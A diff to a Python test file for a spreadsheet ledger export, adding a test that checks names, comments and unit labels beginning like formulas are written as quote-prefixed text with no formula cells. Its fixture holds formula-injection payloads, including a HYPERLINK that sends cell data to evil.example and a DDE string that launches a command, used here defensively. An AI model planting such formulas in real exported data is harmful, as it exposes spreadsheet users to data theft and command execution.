@@ -5,6 +5,7 @@ batches. The workbook is written to memory and opened again with openpyxl."""
 from __future__ import annotations
 
 import io
+import zipfile
 from datetime import UTC, datetime, timedelta
 from zoneinfo import ZoneInfo
 
@@ -25,7 +26,7 @@ from domain.requests import submit_request, transition
 from domain.verdicts import BY_REPORTER, close_request, record_verdict
 from schedules.sweep import sweep
 from storage.database import Database
-from storage.models import Account, Beneficiary, Request, Staff
+from storage.models import Account, Beneficiary, Request, Staff, Unit
 
 ZONE = ZoneInfo("Asia/Shanghai")
 NOW = datetime(2026, 11, 30, 10, 0, tzinfo=ZONE).astimezone(UTC)
@@ -534,3 +535,67 @@ async def test_a_department_sees_its_remit_only(db: Database, district: dict[str
     assert rows[0][0] == "青石区 · 2026-11"
     assert rows[1][0] == translator("zh_CN")._("Only the categories in your remit are counted.")
     assert rows[4][:7] == ["合计", 3, 1, 1, 1, 2, 2]
+
+
+FORMULAS = {
+    "reporter": '=HYPERLINK("http://evil.example/?"&I2,"详情")',
+    "beneficiary": "+86 138",
+    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "grid": "-2+3",
+    "assignee": "＝1+1",
+    "community": "=1+1",
+}
+
+
+async def test_no_cell_carries_a_formula(db: Database, district: dict[str, int]) -> None:
+    """Names, comments and roster labels that start like a formula stay text: the workbook has
+    no formula cell (nor any <f> element), shows each as typed, and marks it quote-prefixed so
+    that editing it in Excel or WPS keeps it text."""
+    async with db.transaction() as session:
+        request = await session.get(Request, district["closed"])
+        assert request is not None
+        reporter = await session.get(Account, request.reporter_account_id)
+        beneficiary = await session.get(Beneficiary, request.beneficiary_id)
+        grid = await session.get(Unit, request.grid_code)
+        holder = await session.get(Staff, request.assignee_staff_id)
+        community = await session.get(Unit, "QS-JB-TH")
+        assert reporter and beneficiary and grid and holder and community
+        reporter.display_name = FORMULAS["reporter"]
+        beneficiary.name = FORMULAS["beneficiary"]
+        request.verdict_comment = FORMULAS["comment"]
+        grid.name = grid.name_en = FORMULAS["grid"]
+        holder.name = FORMULAS["assignee"]
+        community.name = community.name_en = FORMULAS["community"]
+        session.add_all([reporter, beneficiary, request, grid, holder, community])
+    async with db.session() as session:
+        area = await area_of_unit(session, "QS-JB-TH")
+    assert area is not None and NOVEMBER is not None
+    for language in ("en", "zh_CN"):
+        buffer = io.BytesIO()
+        async with db.session() as session:
+            await write_ledger(
+                session,
+                area,
+                NOVEMBER,
+                buffer,
+                t=translator(language),
+                zone=ZONE,
+                viewer=Viewer(all_phones=True),
+                now=NOW,
+            )
+        with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
+            for name in archive.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+        book = load_workbook(io.BytesIO(buffer.getvalue()))
+        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        by_value = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+        title = next(v for v in by_value if v.startswith(FORMULAS["community"] + " · "))
+        by_value[FORMULAS["community"]] = by_value[title]  # the figures' title: area · period
+        for value in FORMULAS.values():
+            assert value in by_value, (language, value)
+            assert by_value[value].data_type == "s"
+            assert by_value[value].quotePrefix, (language, value)
+        # Ordinary text is not marked.
+        assert not by_value["HY%06d" % district["closed"]].quotePrefix
